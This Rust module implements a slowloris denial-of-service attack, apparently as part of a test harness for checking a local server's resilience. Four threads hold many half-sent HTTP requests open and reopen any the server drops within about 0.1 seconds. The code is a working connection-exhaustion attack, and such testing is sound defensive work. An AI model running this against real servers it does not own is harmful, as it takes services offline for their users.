//! A slowloris: connections that each send half a request head and wait, reopened within 0.1 s
//! whenever the server drops one.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::Sender;
use std::time::Duration;

use super::{share, Attack, Report};

/// Half a request head: never completed.
const HALF_HEAD: &[u8] = b"GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slow";
/// How often each attacker looks for its dropped connections and reopens them: a dropped one
/// is open again within this (and one connect) of being dropped.
const ROUND: Duration = Duration::from_millis(100);
/// The attacker threads.
const THREADS: usize = 4;

/// Opens a connection and sends half a head; `None` if the server does not take it in time.
fn open(addr: SocketAddr) -> Option<TcpStream> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(1)).ok()?;
    s.set_write_timeout(Some(Duration::from_secs(1))).ok()?;
    s.write_all(HALF_HEAD).ok()?;
    s.set_nonblocking(true).ok()?;
    Some(s)
}

/// Whether the server still holds `s` open: it has neither closed nor answered it.
fn held(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 512];
    matches!(s.read(&mut buf), Err(e) if e.kind() == ErrorKind::WouldBlock)
}

/// One attacker thread's `n` connections, each reopened whenever it is found dropped.
fn attacker(addr: SocketAddr, n: usize, end: &AtomicBool, ready: &Sender<()>) -> Report {
    let mut conns: Vec<Option<TcpStream>> = (0..n).map(|_| None).collect();
    let mut report = Report::default();
    let mut in_place = false;
    while !end.load(Ordering::SeqCst) {
        for slot in &mut conns {
            if slot.as_mut().is_some_and(|s| !held(s)) {
                *slot = None;
            }
            if slot.is_none() {
                *slot = open(addr);
                if slot.is_some() {
                    report.opened += 1;
                    report.reopened += u64::from(in_place);
                }
            }
        }
        if !in_place && report.opened >= n as u64 {
            // Every connection has been opened once.
            in_place = true;
            let _ = ready.send(());
        }
        std::thread::sleep(ROUND);
    }
    report
}

/// Starts a slowloris of `connections` against `addr`; returns once each has been opened.
pub fn start(addr: SocketAddr, connections: usize) -> Attack {
    Attack::start(THREADS, move |i, end, ready| {
        attacker(addr, share(connections, THREADS, i), end, ready)
    })
}
